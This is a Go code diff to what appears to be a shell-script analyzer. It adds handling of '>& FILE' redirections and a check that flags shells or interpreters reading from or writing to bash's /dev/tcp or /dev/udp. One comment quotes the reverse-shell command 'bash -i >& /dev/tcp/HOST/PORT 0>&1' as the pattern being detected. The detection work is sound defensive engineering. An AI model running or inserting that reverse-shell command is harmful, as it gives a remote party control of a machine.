@@ -604,7 +604,7 @@ func (a *Analyzer) stmt(st *syntax.Stmt, src string, depth int, via []string) {
 	}
 	a.executed = append(a.executed, in.scripts...)
 	for _, r := range st.Redirs {
-		switch r.Op {
+		switch redirOp(r) {
 		case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.RdrAll, syntax.AppAll,
 			syntax.RdrAllClob, syntax.AppAllClob, syntax.RdrInOut:
 			if r.Word == nil {
@@ -616,6 +616,7 @@ func (a *Analyzer) stmt(st *syntax.Stmt, src string, depth int, via []string) {
 				how = ">>"
 			}
 			a.write(how, target, via)
+			a.netShell(in, target, via)
 			if how == ">" && printsNothing(st, in) {
 				a.fact(factEmpties, via, target)
 			}
@@ -653,12 +654,34 @@ func (a *Analyzer) stmt(st *syntax.Stmt, src string, depth int, via []string) {
 				a.fact(rules.FactSubstCode, via, k.String())
 			}
 			if !subst {
+				a.netShell(in, shell.WordArg(r.Word).Text, via)
 				a.readsIn = append(a.readsIn, shell.WordArg(r.Word).Text)
 				if in.final != nil && (in.role == RoleSQL || in.role == RoleStore) {
 					a.fact(factStoreHidden, via, in.final.Name, "input read from a file")
 				}
 			}
 		}
+	}
+}
+
+// redirOp is r's operator as bash reads it: >& followed by a word that
+// is not a file descriptor (>& FILE) sends both outputs to FILE, as &>
+// does.
+func redirOp(r *syntax.Redirect) syntax.RedirOperator {
+	if r.Op == syntax.DplOut && r.Word != nil {
+		if t := shell.WordArg(r.Word).Text; t != "-" && strings.Trim(t, "0123456789-") != "" {
+			return syntax.RdrAll
+		}
+	}
+	return r.Op
+}
+
+// netShell records a shell or an interpreter reading its code from, or
+// writing to, bash's /dev/tcp or /dev/udp (bash -i >& /dev/tcp/HOST/PORT
+// 0>&1): a shell handed to whoever is at the other end.
+func (a *Analyzer) netShell(in *stmtInfo, target string, via []string) {
+	if (in.role == RoleShell || in.role == RoleInterp) && (strings.HasPrefix(target, "/dev/tcp/") || strings.HasPrefix(target, "/dev/udp/")) {
+		a.fact(factNetShell, via, in.final.Name, target)
 	}
 }
 
